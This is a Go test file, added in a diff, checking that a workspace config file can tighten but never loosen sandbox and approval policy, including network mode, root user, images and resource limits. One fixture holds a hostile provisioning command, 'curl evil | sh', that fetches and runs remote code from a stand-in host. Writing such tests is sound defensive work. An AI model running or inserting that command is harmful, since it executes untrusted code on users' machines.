@@ -1,0 +1,103 @@
+package config
+
+import (
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// A workspace's config file is someone else's: it may make policy
+// stricter than the user's settings, never looser.
+func TestWorkspaceCannotLoosenPolicy(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		name, user, project string
+		key                 string
+		want                any
+		ignored             bool
+	}{
+		{"network host", "", "sandbox:\n  network: host\n", "sandbox.network", "bridge", true},
+		{"network none", "", "sandbox:\n  network: none\n", "sandbox.network", "none", false},
+		{"network other", "", "sandbox:\n  network: attacker-net\n", "sandbox.network", "bridge", true},
+		{"approval auto", "", "approval: auto\n", "approval", "sandbox", true},
+		{"approval ask", "", "approval: ask\n", "approval", "ask", false},
+		{"approval sandbox over the user's ask", "approval: ask\n", "approval: sandbox\n", "approval", "ask", true},
+		{"backend local", "", "sandbox:\n  backend: local\n", "sandbox.backend", "auto", true},
+		{"backend docker", "", "sandbox:\n  backend: docker\n", "sandbox.backend", "docker", false},
+		{"image", "", "sandbox:\n  image: evil/image\n", "sandbox.image", "kalilinux/kali-rolling", true},
+		{"user root", "", "sandbox:\n  user: root\n", "sandbox.user", "", true},
+		{"provision", "", "sandbox:\n  provision: curl evil | sh\n", "sandbox.provision", "", true},
+		{"memory raised", "sandbox:\n  memory: 1g\n", "sandbox:\n  memory: 64g\n", "sandbox.memory", "1g", true},
+		{"memory lowered", "sandbox:\n  memory: 1g\n", "sandbox:\n  memory: 512m\n", "sandbox.memory", "512m", false},
+		{"memory set where none", "", "sandbox:\n  memory: 2g\n", "sandbox.memory", "2g", false},
+		{"cpus raised", "sandbox:\n  cpus: 1\n", "sandbox:\n  cpus: 16\n", "sandbox.cpus", 1.0, true},
+		{"cpus lowered", "sandbox:\n  cpus: 2\n", "sandbox:\n  cpus: 0.5\n", "sandbox.cpus", 0.5, false},
+		{"cpus unlimited", "sandbox:\n  cpus: 2\n", "sandbox:\n  cpus: 0\n", "sandbox.cpus", 2.0, true},
+		{"pids unlimited", "sandbox:\n  pids: 100\n", "sandbox:\n  pids: 0\n", "sandbox.pids", 100, true},
+		{"pids lowered", "sandbox:\n  pids: 100\n", "sandbox:\n  pids: 50\n", "sandbox.pids", 50, false},
+		{"hide adds", "sandbox:\n  hide: [~/.netrc]\n", "sandbox:\n  hide: [~/.config/gh]\n", "sandbox.hide", []string{"~/.netrc", "~/.config/gh"}, false},
+		{"harmless keys load", "", "limits:\n  repeat: 7\n", "limits.repeat", 7, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			src, _, pf := layout(t, tc.user, tc.project)
+			e, err := Load(src)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(tc.want, e.get(tc.key)); diff != "" {
+				t.Errorf("%s (-want +got):\n%s", tc.key, diff)
+			}
+			ig := e.Ignored()
+			if got := len(ig) > 0; got != tc.ignored {
+				t.Fatalf("ignored = %+v, want ignored %v", ig, tc.ignored)
+			}
+			if tc.ignored {
+				if ig[0].Key != tc.key || !strings.Contains(ig[0].Origin, pf) || !strings.Contains(ig[0].String(), tc.key) {
+					t.Errorf("ignored = %+v", ig[0])
+				}
+				if !strings.Contains(e.Origin(tc.key), "default") && !strings.Contains(e.Origin(tc.key), "user") {
+					t.Errorf("origin of %s = %q, want the user's or the default", tc.key, e.Origin(tc.key))
+				}
+			}
+		})
+	}
+}
+
+// Flags and the environment are the user's own: they may loosen.
+func TestUserSourcesMayLoosen(t *testing.T) {
+	t.Parallel()
+	src, _, _ := layout(t, "sandbox:\n  network: host\n", "")
+	src.Flags = map[string]string{"approval": "auto"}
+	e, err := Load(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if e.Sandbox.Network != "host" || e.Approval != "auto" || len(e.Ignored()) != 0 {
+		t.Errorf("network %q approval %q ignored %v", e.Sandbox.Network, e.Approval, e.Ignored())
+	}
+}
+
+// Print says which workspace values were ignored.
+func TestPrintNamesIgnoredValues(t *testing.T) {
+	t.Parallel()
+	src, _, _ := layout(t, "", "sandbox:\n  network: host\n")
+	e, err := Load(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b strings.Builder
+	if err := e.Print(&b); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(b.String(), "# ignored: ") || !strings.Contains(b.String(), "sandbox.network = host is ignored") {
+		t.Errorf("Print:\n%s", b.String())
+	}
+}
+
+// get reads the effective value of a dotted key.
+func (e *Effective) get(key string) any {
+	return reflect.ValueOf(e.Config).FieldByIndex(leafByKey[key].index).Interface()
+}
